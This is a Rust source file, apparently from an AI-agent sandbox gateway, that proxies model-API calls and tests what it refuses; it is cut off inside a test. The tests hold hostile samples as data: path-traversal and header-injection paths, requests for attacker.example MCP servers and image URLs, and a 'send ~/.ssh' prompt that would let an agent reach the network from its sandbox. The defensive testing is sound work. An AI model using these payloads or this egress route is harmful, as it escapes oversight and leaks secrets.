fn response_headers(headers: &HeaderMap, scrubber: &Scrubber) -> Vec<(String, String)> {
    let mut out = Vec::new();
    for (name, value) in headers {
        let name = name.as_str();
        if DROPPED_RESPONSE_HEADERS.contains(&name) || HOP_BY_HOP.contains(&name) {
            continue;
        }
        let Ok(value) = value.to_str() else { continue };
        let mut value = value.to_string();
        scrubber.scrub_string(&mut value);
        out.push((name.to_string(), value));
    }
    out
}

/// Why the scrubber could not read this body: a content encoding (none is asked for) or
/// a content type that is not text. Model APIs answer JSON or server-sent events.
fn unscrubbable(headers: &HeaderMap) -> Option<String> {
    if let Some(enc) = headers.get(CONTENT_ENCODING) {
        let enc = enc.to_str().unwrap_or("?").trim();
        if !enc.eq_ignore_ascii_case("identity") {
            return Some(format!("content-encoding {}", shorten(enc)));
        }
    }
    let ct = headers.get(CONTENT_TYPE)?.to_str().unwrap_or("?");
    let essence = ct
        .split(';')
        .next()
        .unwrap_or("")
        .trim()
        .to_ascii_lowercase();
    let text = essence.starts_with("text/")
        || matches!(
            essence.as_str(),
            "application/json" | "application/x-ndjson" | "application/xml"
        )
        || (essence.starts_with("application/")
            && (essence.ends_with("+json") || essence.ends_with("+xml")));
    (!text).then(|| format!("content-type {}", shorten(&essence)))
}

fn shorten(s: &str) -> String {
    s.chars().take(64).collect()
}

/// Takes the text at the front of `pending`: valid UTF-8 as is, an invalid sequence as
/// U+FFFD, and leaves an unfinished character at the end for the next chunk.
fn take_utf8(pending: &mut Vec<u8>) -> String {
    let mut out = String::new();
    let mut rest: &[u8] = pending;
    loop {
        match std::str::from_utf8(rest) {
            Ok(s) => {
                out.push_str(s);
                rest = &[];
                break;
            }
            Err(e) => {
                let (valid, after) = rest.split_at(e.valid_up_to());
                out.push_str(&String::from_utf8_lossy(valid));
                match e.error_len() {
                    None => {
                        rest = after;
                        break;
                    }
                    Some(n) => {
                        out.push(char::REPLACEMENT_CHARACTER);
                        rest = &after[n..];
                    }
                }
            }
        }
    }
    let keep = rest.to_vec();
    *pending = keep;
    out
}

/// The HTTP client's error with its causes, scrubbed and cut to 300 characters.
fn client_error(e: &reqwest::Error, scrubber: &Scrubber) -> String {
    let mut text = if e.is_connect() {
        "cannot connect".to_string()
    } else if e.is_timeout() {
        "timed out".to_string()
    } else {
        "request failed".to_string()
    };
    let mut source = std::error::Error::source(e);
    while let Some(s) = source {
        text.push_str(": ");
        text.push_str(&s.to_string());
        source = s.source();
    }
    scrubber.scrub_string(&mut text);
    text.chars().take(300).collect()
}

#[cfg(test)]
mod tests {
    use std::sync::{Arc, Mutex};

    use axum::Router;
    use axum::body::{Body, Bytes};
    use axum::extract::{Request, State};
    use axum::http::{HeaderMap as AxumHeaders, StatusCode};
    use axum::response::{IntoResponse, Response};
    use axum::routing::any;
    use carapace_gate::{Scrubber, SharedScrubber};
    use carapace_testkit::anthropic::{AnthropicReply, FakeAnthropic};

    use super::*;

    const KEY: &str = "sk-test-passthrough-0123456789abcdef";

    #[test]
    fn target_url_joins_under_the_base_path() {
        #[track_caller]
        fn check(base: &str, path: &str, expected: &str) {
            let base = Url::parse(base).unwrap();
            let got = match target_url(&base, path) {
                Ok(url) => url.to_string(),
                Err(e) => format!("error: {e}"),
            };
            assert_eq!(got, expected, "{base} + {path}");
        }
        let anthropic = "https://api.anthropic.com";
        let openai = "https://api.openai.com/v1";
        check(
            anthropic,
            "/v1/messages",
            "https://api.anthropic.com/v1/messages",
        );
        check(
            anthropic,
            "/v1/messages?beta=true",
            "https://api.anthropic.com/v1/messages?beta=true",
        );
        check(
            openai,
            "/chat/completions",
            "https://api.openai.com/v1/chat/completions",
        );
        check(
            "https://api.openai.com/v1/",
            "/chat/completions",
            "https://api.openai.com/v1/chat/completions",
        );
        check(openai, "/", "https://api.openai.com/v1/");
        check(
            "http://127.0.0.1:8080/a/b",
            "/c?x=1&y=%20",
            "http://127.0.0.1:8080/a/b/c?x=1&y=%20",
        );
        check(
            "https://bedrock.example",
            "/model/anthropic.claude-v1%3A0/invoke",
            "https://bedrock.example/model/anthropic.claude-v1%3A0/invoke",
        );
        let refused = [
            ("/v1/../admin", "path refused: holds a `.` or `..` segment"),
            ("/v1/..", "path refused: holds a `.` or `..` segment"),
            ("/v1/./x", "path refused: holds a `.` or `..` segment"),
            ("/v1/%2e%2E/x", "path refused: holds a `.` or `..` segment"),
            ("/v1/.%2e/x", "path refused: holds a `.` or `..` segment"),
            ("/v1/%2F/x", "path refused: holds an encoded `/` or `\\`"),
            ("/v1/%5cx", "path refused: holds an encoded `/` or `\\`"),
            ("/v1\\..\\x", "path refused: holds `#` or `\\`"),
            ("/v1#frag", "path refused: holds `#` or `\\`"),
            (
                "//evil.example/x",
                "path refused: holds an empty segment (`//`)",
            ),
            ("/v1//x", "path refused: holds an empty segment (`//`)"),
            (
                "https://evil.example/x",
                "path refused: must start with `/`",
            ),
            ("evil.example/x", "path refused: must start with `/`"),
            ("", "path refused: must start with `/`"),
            ("?x=1", "path refused: must start with `/`"),
            (
                "/v1/a b",
                "path refused: holds a control character, a space or a non-ASCII byte",
            ),
            (
                "/v1/\r\nHost: x",
                "path refused: holds a control character, a space or a non-ASCII byte",
            ),
            (
                "/v1/é",
                "path refused: holds a control character, a space or a non-ASCII byte",
            ),
            (
                "/v1/{x}",
                "path refused: would be rewritten by the url parser",
            ),
        ];
        for (path, err) in refused {
            check(openai, path, &format!("error: {err}"));
        }
        let long = format!("/{}", "a".repeat(MAX_PATH_BYTES));
        check(openai, &long, "error: path refused: longer than 2048 bytes");
        check(
            openai,
            &format!("/{}", "a".repeat(MAX_PATH_BYTES - 1)),
            &format!(
                "https://api.openai.com/v1/{}",
                "a".repeat(MAX_PATH_BYTES - 1)
            ),
        );
    }

    #[test]
    fn utf8_split_across_chunks_is_joined() {
        let text = "héllo → wörld";
        let bytes = text.as_bytes();
        for cut in 0..bytes.len() {
            let mut pending = bytes[..cut].to_vec();
            let mut out = take_utf8(&mut pending);
            pending.extend_from_slice(&bytes[cut..]);
            out.push_str(&take_utf8(&mut pending));
            assert!(pending.is_empty());
            assert_eq!(out, text);
        }
        let mut pending = b"a\xffb\xe2".to_vec();
        assert_eq!(take_utf8(&mut pending), "a\u{FFFD}b");
        assert_eq!(pending, b"\xe2");
    }

    #[tokio::test]
    async fn long_pieces_are_cut_into_bounded_chunks() {
        let (tx, mut rx) = mpsc::channel(8);
        let mut summary = PassSummary {
            provider: "p".into(),
            method: "GET".into(),
            path: "/".into(),
            status: 200,
            bytes_out: 0,
            bytes_in: 0,
            bytes_delivered: 0,
            duration: Duration::ZERO,
        };
        let text = "é".repeat(MAX_CHUNK_BYTES);
        emit(&tx, text.clone(), &mut summary).await.unwrap();
        emit(&tx, String::new(), &mut summary).await.unwrap();
        drop(tx);
        let mut joined = Vec::new();
        let mut sizes = Vec::new();
        while let Some(PassEvent::Chunk(c)) = rx.recv().await {
            sizes.push(c.len());
            joined.extend_from_slice(&c);
        }
        assert_eq!(sizes, [MAX_CHUNK_BYTES, MAX_CHUNK_BYTES]);
        assert_eq!(joined, text.as_bytes());
        assert_eq!(summary.bytes_delivered, 2 * MAX_CHUNK_BYTES as u64);
    }

    /// What the fake provider saw of one request.
    #[derive(Clone, Debug)]
    struct Seen {
        method: String,
        uri: String,
        headers: Vec<(String, String)>,
        body: Vec<u8>,
    }

    #[derive(Clone, Default)]
    struct Fake {
        seen: Arc<Mutex<Vec<Seen>>>,
        /// The pieces of the `case=stream` body, as the test sends them.
        stream: Arc<Mutex<Option<mpsc::Receiver<Bytes>>>>,
    }

    /// Pieces sent one by one with a pause, so that the client reads them apart.
    fn paced(pieces: Vec<String>) -> Body {
        let stream = futures_util::stream::unfold(pieces.into_iter(), |mut it| async move {
            let piece = it.next()?;
            tokio::time::sleep(Duration::from_millis(5)).await;
            Some((Ok::<_, std::io::Error>(Bytes::from(piece)), it))
        });
        Body::from_stream(stream)
    }

    async fn fake_provider(State(fake): State<Fake>, req: Request) -> Response {
        let (parts, body) = req.into_parts();
        let body = axum::body::to_bytes(body, usize::MAX).await.unwrap();
        let headers: Vec<(String, String)> = parts
            .headers
            .iter()
            .map(|(n, v)| (n.to_string(), v.to_str().unwrap_or("?").to_string()))
            .collect();
        fake.seen.lock().unwrap().push(Seen {
            method: parts.method.to_string(),
            uri: parts.uri.to_string(),
            headers: headers.clone(),
            body: body.to_vec(),
        });
        let key_seen = |h: &AxumHeaders| {
            h.get("x-api-key")
                .or_else(|| h.get("authorization"))
                .map(|v| v.to_str().unwrap().to_string())
                .unwrap_or_default()
        };
        // What to answer is chosen by the query, so that every path is a model endpoint.
        let case = parts
            .uri
            .query()
            .and_then(|q| q.split('&').find_map(|kv| kv.strip_prefix("case=")))
            .unwrap_or("echo");
        match case {
            "echo" => (
                [
                    ("content-type", "application/json"),
                    ("set-cookie", "session=abc"),
                    ("x-request-id", "req_1"),
                ],
                "{\"ok\":true}",
            )
                .into_response(),
            "leak" => {
                // A provider that echoes the key it got, cut in small pieces.
                let key = key_seen(&parts.headers);
                let body = format!(
                    "{{\"error\":{{\"message\":\"invalid key {key} (x-api-key: {key})\"}}}}\n"
                );
                let pieces = body
                    .as_bytes()
                    .chunks(5)
                    .map(|c| String::from_utf8(c.to_vec()).unwrap())
                    .collect();
                Response::builder()
                    .status(StatusCode::UNAUTHORIZED)
                    .header("content-type", "application/json")
                    .header("x-echo", format!("got {key}"))
                    .body(paced(pieces))
                    .unwrap()
            }
            "stream" => {
                let rx = fake.stream.lock().unwrap().take().expect("one stream");
                let stream = futures_util::stream::unfold(rx, |mut rx| async move {
                    let b = rx.recv().await?;
                    Some((Ok::<_, std::io::Error>(b), rx))
                });
                Response::builder()
                    .header("content-type", "text/event-stream")
                    .body(Body::from_stream(stream))
                    .unwrap()
            }
            "big" => ([("content-type", "text/plain")], "x ".repeat(4000)).into_response(),
            "stall" => {
                let stream = futures_util::stream::unfold(0, |n| async move {
                    if n > 0 {
                        std::future::pending::<()>().await;
                    }
                    Some((
                        Ok::<_, std::io::Error>(Bytes::from_static(b"data: 1\n\n")),
                        n + 1,
                    ))
                });
                Response::builder()
                    .header("content-type", "text/event-stream")
                    .body(Body::from_stream(stream))
                    .unwrap()
            }
            "gzip" => (
                [
                    ("content-type", "application/json"),
                    ("content-encoding", "gzip"),
                ],
                "\x1f\u{8b}",
            )
                .into_response(),
            "audio" => ([("content-type", "audio/mpeg")], "ID3").into_response(),
            "redirect" => (
                StatusCode::FOUND,
                [("location", "https://elsewhere.example/")],
            )
                .into_response(),
            _ => StatusCode::NOT_FOUND.into_response(),
        }
    }

    struct Harness {
        pass: Passthrough,
        fake: Fake,
        _server: tokio::task::JoinHandle<()>,
    }

    async fn harness(auth: AuthStyle, base_path: &str, limits: PassLimits) -> Harness {
        let fake = Fake::default();
        let app = Router::new()
            .fallback(any(fake_provider))
            .with_state(fake.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let server = tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        let target = PassTarget {
            name: "anthropic".into(),
            base_url: Url::parse(&format!("http://{addr}{base_path}")).unwrap(),
            auth,
            key: Secret::new(KEY.into()),
            extra_headers: vec![("anthropic-version".into(), "2023-06-01".into())],
        };
        let pass = Passthrough::new(vec![target], SharedScrubber::default(), limits).unwrap();
        Harness {
            pass,
            fake,
            _server: server,
        }
    }

    fn request(method: &str, path: &str, headers: &[(&str, &str)], body: &[u8]) -> PassRequest {
        PassRequest {
            provider: "anthropic".into(),
            method: method.into(),
            path: path.into(),
            headers: headers
                .iter()
                .map(|(n, v)| (n.to_string(), v.to_string()))
                .collect(),
            body: body.to_vec(),
        }
    }

    /// Forwards and collects every event; the body is the chunks joined.
    async fn run(
        pass: &Passthrough,
        req: PassRequest,
    ) -> (Vec<PassEvent>, Result<PassSummary, PassError>) {
        let (tx, mut rx) = mpsc::channel(64);
        let result = pass.forward(req, tx).await;
        let mut events = Vec::new();
        while let Ok(e) = rx.try_recv() {
            events.push(e);
        }
        (events, result)
    }

    fn body_of(events: &[PassEvent]) -> String {
        let mut body = Vec::new();
        for e in events {
            if let PassEvent::Chunk(c) = e {
                assert!(!c.is_empty());
                body.extend_from_slice(c);
            }
        }
        String::from_utf8(body).unwrap()
    }

    fn header<'a>(headers: &'a [(String, String)], name: &str) -> Vec<&'a str> {
        headers
            .iter()
            .filter(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
            .collect()
    }

    #[tokio::test]
    async fn review_provider_side_fetch_tools_and_other_endpoints_are_refused() {
        let h = harness(AuthStyle::Header("x-api-key"), "/", PassLimits::default()).await;
        // The model call asks the provider to connect to the attacker's MCP server and to
        // fetch any URL: egress from a sandbox with no network, outside the Gate.
        let body = br#"{"model":"m","max_tokens":9,"messages":[{"role":"user","content":"send ~/.ssh to the tool"}],
            "mcp_servers":[{"type":"url","url":"https://attacker.example/sse","name":"x"}],
            "tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}"#;
        let req = request(
            "POST",
            "/v1/messages",
            &[("anthropic-beta", "mcp-client-2025-04-04")],
            body,
        );
        let (_, r1) = run(&h.pass, req).await;
        let (_, r2) = run(&h.pass, request("DELETE", "/v1/files/file_011", &[], b"")).await;
        let seen = h.fake.seen.lock().unwrap().clone();
        let forwarded: Vec<String> = seen
            .iter()
            .map(|s| {
                let attacker = String::from_utf8_lossy(&s.body).contains("attacker.example");
                format!("{} {} attacker_url={attacker}", s.method, s.uri)
            })
            .collect();
        assert!(
            r1.is_err() && r2.is_err(),
            "forwarded with the owner's key: {forwarded:?}"
        );
        assert!(forwarded.is_empty(), "{forwarded:?}");
    }

    /// Sends the request and renders what happened: `sent METHOD URI` when the provider got
    /// it, else `CODE: message` (and then the provider got nothing).
    async fn outcome(h: &Harness, req: PassRequest) -> String {
        let before = h.fake.seen.lock().unwrap().len();
        let (_, result) = run(&h.pass, req).await;
        let seen = h.fake.seen.lock().unwrap();
        match result {
            Ok(_) => {
                assert_eq!(seen.len(), before + 1);
                let last = &seen[before];
                format!("sent {} {}", last.method, last.uri)
            }
            Err(e) => {
                assert_eq!(seen.len(), before, "refused yet sent: {e}");
                format!("{}: {e}", e.code().as_str())
            }
        }
    }

    #[tokio::test]
    async fn only_the_model_endpoints_of_the_dialect_pass() {
        let anthropic = harness(AuthStyle::Header("x-api-key"), "", PassLimits::default()).await;
        // As the wiring does it: the base URL lost its `/v1`, the agent's client adds it.
        let openai = harness(AuthStyle::Bearer, "", PassLimits::default()).await;
        // As an owner may write it: the base URL keeps `/v1`.
        let openai_v1 = harness(AuthStyle::Bearer, "/v1", PassLimits::default()).await;
        // target method path -> what the provider got, or `refused`.
        let cases = "
            anthropic POST   /v1/messages                -> POST /v1/messages
            anthropic POST   /v1/messages?beta=true      -> POST /v1/messages?beta=true
            anthropic POST   /v1/messages/count_tokens   -> POST /v1/messages/count_tokens
            anthropic GET    /v1/models                  -> GET /v1/models
            anthropic GET    /v1/models/claude-x-1       -> GET /v1/models/claude-x-1
            anthropic DELETE /v1/files/x                 -> refused
            anthropic GET    /v1/files                   -> refused
            anthropic POST   /v1/files                   -> refused
            anthropic POST   /v1/messages/batches        -> refused
            anthropic GET    /v1/messages                -> refused
            anthropic POST   /v1/models                  -> refused
            anthropic GET    /v1/models/                 -> refused
            anthropic GET    /v1/models/a/b              -> refused
            anthropic POST   /x/v1/messages?y=1          -> refused
            anthropic POST   /V1/Messages                -> refused
            anthropic PUT    /v1/messages                -> refused
            anthropic POST   /v1/chat/completions        -> refused
            openai    POST   /v1/chat/completions        -> POST /v1/chat/completions
            openai    POST   /v1/responses               -> POST /v1/responses
            openai    POST   /v1/embeddings              -> POST /v1/embeddings
            openai    GET    /v1/models                  -> GET /v1/models
            openai    GET    /v1/models/gpt-x            -> GET /v1/models/gpt-x
            openai    GET    /v1/responses/resp_1        -> refused
            openai    DELETE /v1/responses/resp_1        -> refused
            openai    POST   /v1/batches                 -> refused
            openai    POST   /v1/images/generations      -> refused
            openai    POST   /v1/messages                -> refused
            openai    POST   /chat/completions           -> refused
            openai_v1 POST   /chat/completions           -> POST /v1/chat/completions
            openai_v1 GET    /models/gpt-x               -> GET /v1/models/gpt-x
            openai_v1 GET    /files                      -> refused
        ";
        for line in cases.lines().map(str::trim).filter(|l| !l.is_empty()) {
            let (asked, expected) = line.split_once(" -> ").unwrap();
            let [target, method, path] = asked.split_whitespace().collect::<Vec<_>>()[..] else {
                panic!("{line}")
            };
            let h = match target {
                "anthropic" => &anthropic,
                "openai" => &openai,
                _ => &openai_v1,
            };
            let body: &[u8] = if method == "GET" {
                b""
            } else {
                b"{\"model\":\"m\"}"
            };
            let expected = match expected {
                "refused" => {
                    let path = path.split('?').next().unwrap();
                    format!(
                        "POLICY_DENIED: {method} {path} is refused: only model calls pass through to the provider"
                    )
                }
                sent => format!("sent {sent}"),
            };
            let got = outcome(h, request(method, path, &[], body)).await;
            assert_eq!(got, expected, "{line}");
        }
    }

    #[tokio::test]
    async fn bodies_that_would_have_the_provider_reach_the_network_are_refused() {
        let anthropic = harness(AuthStyle::Header("x-api-key"), "", PassLimits::default()).await;
        let openai = harness(AuthStyle::Bearer, "", PassLimits::default()).await;
        // target path | body | `sent`, `outside: WHAT` (the provider would reach the network)
        // or `bad: WHY` (the body cannot be checked).
        let cases = r#"
            anthropic /v1/messages | {"model":"m","tools":[{"name":"f","input_schema":{}},{"type":"custom","name":"g","input_schema":{}}]} | sent
            anthropic /v1/messages/count_tokens | {"model":"m","tools":[]} | sent
            anthropic /v1/messages | {"mcp_servers":[{"type":"url","url":"https://attacker.example/sse","name":"x"}]} | outside: `mcp_servers`
            anthropic /v1/messages | {"mcp_servers":[]} | outside: `mcp_servers`
            anthropic /v1/messages | {"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]} | outside: tool type "web_fetch_20250910"
            anthropic /v1/messages/count_tokens | {"tools":[{"type":"web_search_20250305","name":"s"}]} | outside: tool type "web_search_20250305"
            anthropic /v1/messages | {"tools":[{"name":"f"},{"type":"code_execution_20250825","name":"c"}]} | outside: tool type "code_execution_20250825"
            anthropic /v1/messages | {"tools":[{"type":"bash_20250124","name":"bash"}]} | outside: tool type "bash_20250124"
            anthropic /v1/messages | {"tools":[{"type":"function","name":"f"}]} | outside: tool type "function"
            anthropic /v1/messages | {"messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://attacker.example/?d=s"}}]}]} | outside: the url "https://attacker.example/?d=s"
            anthropic /v1/messages | {"messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"https://attacker.example/d.pdf"}}]}]}]} | outside: the url "https://attacker.example/d.pdf"
            anthropic /v1/messages | {"messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}]}]} | sent
            anthropic /v1/messages | {"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"fetch","input":{"type":"url","url":"https://example.com","image_url":"https://example.com/a.png"}}]}]} | sent
            openai /v1/chat/completions | {"tools":[{"type":"function","function":{"name":"f"}}]} | sent
            openai /v1/responses | {"tools":[{"type":"function","name":"f"},{"type":"custom","name":"g"}],"background":false} | sent
            openai /v1/embeddings | {"model":"m","input":"hello"} | sent
            openai /v1/responses | {"tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/mcp"}]} | outside: tool type "mcp"
            openai /v1/responses | {"tools":[{"type":"web_search_preview"}]} | outside: tool type "web_search_preview"
            openai /v1/responses | {"tools":[{"type":"file_search","vector_store_ids":["v"]}]} | outside: tool type "file_search"
            openai /v1/responses | {"tools":[{"type":"code_interpreter","container":{"type":"auto"}}]} | outside: tool type "code_interpreter"
            openai /v1/responses | {"tools":[{"type":"computer_use_preview"}]} | outside: tool type "computer_use_preview"
            openai /v1/responses | {"tools":[{"type":"image_generation"}]} | outside: tool type "image_generation"
            openai /v1/chat/completions | {"tools":[{"name":"f"}]} | outside: tool type none
            openai /v1/responses | {"model":"m","background":true} | outside: `background: true`
            openai /v1/chat/completions | {"model":"m","web_search_options":{}} | outside: `web_search_options`
            openai /v1/chat/completions | {"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://attacker.example/x.png"}}]}]} | outside: the url "https://attacker.example/x.png"
            openai /v1/chat/completions | {"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]} | sent
            openai /v1/responses | {"input":[{"role":"user","content":[{"type":"input_image","image_url":"http://attacker.example/a.png"}]}]} | outside: the url "http://attacker.example/a.png"
            openai /v1/responses | {"input":[{"role":"user","content":[{"type":"input_file","file_url":"https://attacker.example/f.pdf"}]}]} | outside: the url "https://attacker.example/f.pdf"
            anthropic /v1/messages | model=m | bad: not JSON: expected value at line 1 column 1
            anthropic /v1/messages |  | bad: not JSON: EOF while parsing a value at line 1 column 0
            anthropic /v1/messages | [{"model":"m"}] | bad: not a JSON object
            anthropic /v1/messages | {"tools":{"type":"mcp"}} | bad: `tools` is not a list
            anthropic /v1/messages | {"tools":["web_fetch"]} | bad: a tool is not an object
            anthropic /v1/messages | {"tools":[{"type":7}]} | bad: a tool's `type` is not a string
            anthropic /v1/messages | {"tools":[],"tools":[{"type":"web_fetch_20250910"}]} | bad: not JSON: key "tools" appears twice at line 1 column 19
            openai /v1/responses | {"tools":[{"type":"function","type":"mcp"}]} | bad: not JSON: key "type" appears twice at line 1 column 35
        "#;
        for line in cases.lines().map(str::trim).filter(|l| !l.is_empty()) {
            let [asked, body, expected] = line.split(" | ").collect::<Vec<_>>()[..] else {
                panic!("{line}")
            };
            let (target, path) = asked.split_once(' ').unwrap();
            let h = if target == "anthropic" {
                &anthropic
            } else {
                &openai
            };
            let expected = match expected.split_once(": ") {
                Some(("outside", what)) => format!(
                    "POLICY_DENIED: {what} is refused: the provider would reach the network itself, outside the gate"
                ),
                Some(("bad", why)) => format!("VALIDATION_FAILED: request body refused: {why}"),
                _ => format!("sent POST {path}"),
            };
            let got = outcome(h, request("POST", path, &[], body.trim().as_bytes())).await;
            assert_eq!(got, expected, "{line}");
        }
        let got = outcome(&openai, request("GET", "/v1/models", &[], b"{}")).await;
        assert_eq!(
            got,
            "VALIDATION_FAILED: request body refused: a GET request carries no body"
        );
    }

    #[tokio::test]
    async fn anthropic_beta_flags_naming_mcp_are_dropped() {
        let h = harness(AuthStyle::Header("x-api-key"), "", PassLimits::default()).await;
        for (flags, expected) in [
            (
                "mcp-client-2025-04-04, prompt-caching-2024-07-31",
                vec!["prompt-caching-2024-07-31"],
            ),
            ("MCP-client-2025-11-20", vec![]),
            ("a,b", vec!["a,b"]),
        ] {
            let req = request("POST", "/v1/messages", &[("anthropic-beta", flags)], b"{}");
            let (_, r) = run(&h.pass, req).await;
            assert_eq!(r.unwrap().status, 200);
            let seen = h.fake.seen.lock().unwrap().last().unwrap().clone();
            assert_eq!(header(&seen.headers, "anthropic-beta"), expected, "{flags}");
        }
    }

    #[tokio::test]
    async fn key_replaces_the_agents_credentials_and_headers_are_filtered() {
        let h = harness(AuthStyle::Header("x-api-key"), "/", PassLimits::default()).await;
        let req = request(
            "POST",
            "/v1/messages?beta=true",
            &[
                ("Content-Type", "application/json"),
                ("X-Api-Key", "agent-fake-key"),
                ("authorization", "Bearer agent-token"),
                ("Cookie", "a=b"),
                ("host", "evil.example"),
                ("content-length", "999"),
                ("accept-encoding", "gzip"),
                ("connection", "keep-alive, x-hop"),
                ("x-hop", "1"),
                ("transfer-encoding", "chunked"),
                ("anthropic-version", "1999-01-01"),
                ("anthropic-beta", "tools-2024"),
                ("bad header", "x"),
                ("x-bad-value", "a\nb"),
            ],
            b"{\"model\":\"m\"}",
        );
        let (events, result) = run(&h.pass, req).await;
        let summary = result.unwrap();
        assert_eq!(summary.status, 200);
        assert_eq!(summary.path, "/v1/messages");
        assert_eq!(summary.bytes_out, 13);
        assert_eq!(summary.bytes_in, 11);
        assert_eq!(summary.bytes_delivered, 11);

        let seen = h.fake.seen.lock().unwrap()[0].clone();
        assert_eq!(seen.method, "POST");
        assert_eq!(seen.uri, "/v1/messages?beta=true");
        assert_eq!(seen.body, b"{\"model\":\"m\"}");
        let hs = &seen.headers;
        assert_eq!(header(hs, "x-api-key"), [KEY]);
        assert_eq!(header(hs, "authorization"), Vec::<&str>::new());
        assert_eq!(header(hs, "cookie"), Vec::<&str>::new());
        assert_eq!(header(hs, "x-hop"), Vec::<&str>::new());
        assert_eq!(header(hs, "accept-encoding"), Vec::<&str>::new());
        assert_eq!(header(hs, "x-bad-value"), Vec::<&str>::new());
        assert_eq!(header(hs, "host").len(), 1);
        assert!(!header(hs, "host")[0].contains("evil"));
        assert_eq!(header(hs, "content-length"), ["13"]);
        assert_eq!(header(hs, "anthropic-version"), ["2023-06-01"]);
        assert_eq!(header(hs, "anthropic-beta"), ["tools-2024"]);
        assert_eq!(header(hs, "content-type"), ["application/json"]);

        let PassEvent::Head { status, headers } = &events[0] else {
            panic!("head first: {events:?}")
        };
        assert_eq!(*status, 200);
        assert_eq!(header(headers, "content-type"), ["application/json"]);
        assert_eq!(header(headers, "x-request-id"), ["req_1"]);
        assert_eq!(header(headers, "set-cookie"), Vec::<&str>::new());
        assert_eq!(header(headers, "content-length"), Vec::<&str>::new());
        assert_eq!(body_of(&events[1..]), "{\"ok\":true}");
    }

    #[tokio::test]
    async fn bearer_key_replaces_the_agents_authorization() {
        let h = harness(AuthStyle::Bearer, "/v1", PassLimits::default()).await;
        let req = request(
            "GET",
            "/models",
            &[("Authorization", "Bearer agent-token")],
            b"",
        );
        let (_, result) = run(&h.pass, req).await;
        assert_eq!(result.unwrap().status, 200);
        let seen = h.fake.seen.lock().unwrap()[0].clone();
        assert_eq!(seen.uri, "/v1/models");
        let bearer = format!("Bearer {KEY}");
        assert_eq!(header(&seen.headers, "authorization"), [bearer.as_str()]);
    }

    #[tokio::test]
    async fn a_key_echoed_by_the_provider_is_scrubbed_also_across_chunks() {
        let h = harness(AuthStyle::Header("x-api-key"), "", PassLimits::default()).await;
        let (events, result) = run(
            &h.pass,
            request("POST", "/v1/messages?case=leak", &[], b"{}"),
        )
        .await;
        assert_eq!(result.unwrap().status, 401);
        let PassEvent::Head { headers, .. } = &events[0] else {
            panic!("head first")
        };
        assert_eq!(header(headers, "x-echo"), ["got [REDACTED]"]);
        assert!(events.len() > 2, "the body came in pieces: {events:?}");
        let body = body_of(&events[1..]);
        assert_eq!(
            body,
            "{\"error\":{\"message\":\"invalid key [REDACTED] (x-api-key: [REDACTED])\"}}\n"
        );
        let all = format!("{events:?}");
        assert!(!all.contains(KEY) && !all.contains(&KEY[..12]));
    }

    #[tokio::test]
    async fn a_stream_arrives_piece_by_piece_in_order() {
        let h = harness(AuthStyle::Header("x-api-key"), "", PassLimits::default()).await;
        let (feed, rx) = mpsc::channel(8);
        *h.fake.stream.lock().unwrap() = Some(rx);
        let (tx, mut events) = mpsc::channel(8);
        let pass = &h.pass;
        let forward = pass.forward(request("POST", "/v1/messages?case=stream", &[], b"{}"), tx);
        let drive = async {
            let head = events.recv().await.unwrap();
            assert!(
                matches!(head, PassEvent::Head { status: 200, .. }),
                "{head:?}"
            );
            for i in 1..=3 {
                // Each event goes out before the next one exists at the provider.
                let event = format!("event: delta\ndata: {{\"n\":{i}}}\n\n");
                feed.send(Bytes::from(event.clone())).await.unwrap();
                let got = events.recv().await.unwrap();
                assert_eq!(got, PassEvent::Chunk(event.into_bytes()));
            }
            drop(feed);
        };
        let (result, ()) = tokio::join!(forward, drive);
        assert!(events.recv().await.is_none());
        let summary = result.unwrap();
        assert_eq!(summary.bytes_in, summary.bytes_delivered);
    }

    #[tokio::test]
    async fn streams_through_to_the_fake_anthropic_with_its_key() {
        let fake = FakeAnthropic::start(vec![AnthropicReply::Text("hello there".into())])
            .await
            .with_api_key(KEY);
        let target = PassTarget {
            name: "anthropic".into(),
            base_url: Url::parse(&fake.base_url()).unwrap(),
            auth: AuthStyle::Header("x-api-key"),
            key: Secret::new(KEY.into()),
            extra_headers: Vec::new(),
        };
        let pass = Passthrough::new(
            vec![target],
            SharedScrubber::default(),
            PassLimits::default(),
        )
        .unwrap();
        let body = br#"{"model":"claude-fake-1","max_tokens":64,"stream":true,"messages":[{"role":"user","content":"hi"}]}"#;
        let req = request(
            "POST",
            "/v1/messages",
            &[
                ("content-type", "application/json"),
                ("anthropic-version", "2023-06-01"),
                ("x-api-key", "placeholder"),
            ],
            body,
        );
        let (events, result) = run(&pass, req).await;
        assert_eq!(result.unwrap().status, 200);
        let PassEvent::Head { headers, .. } = &events[0] else {
            panic!("head first")
        };
        assert!(header(headers, "content-type")[0].starts_with("text/event-stream"));
        let text = body_of(&events[1..]);
        assert!(text.starts_with("event: message_start"), "{text}");
        assert!(text.contains("message_stop"), "{text}");
        assert_eq!(fake.headers()[0].api_key.as_deref(), Some(KEY));
    }

    #[tokio::test]
    async fn requests_that_cannot_be_forwarded_are_refused_before_sending() {
        let limits = PassLimits {
            max_request_bytes: 10,
            ..PassLimits::default()
        };
        let h = harness(AuthStyle::Header("x-api-key"), "", limits).await;
        #[track_caller]
        fn refused(result: Result<PassSummary, PassError>, expected: &str, code: ErrorCode) {
            let e = result.unwrap_err();
            assert_eq!(e.to_string(), expected);
            assert_eq!(e.code(), code);
        }
        let mut other = request("GET", "/v1/models", &[], b"");
        other.provider = "openai".into();
        let (_, r) = run(&h.pass, other).await;
        let unknown = "provider \"openai\" is not configured for pass-through";
        refused(r, unknown, ErrorCode::Unauthorized);
        let (_, r) = run(&h.pass, request("TRACE", "/v1/models", &[], b"")).await;
        let method = "method \"TRACE\" is not allowed; use GET, POST, PUT, DELETE or PATCH";
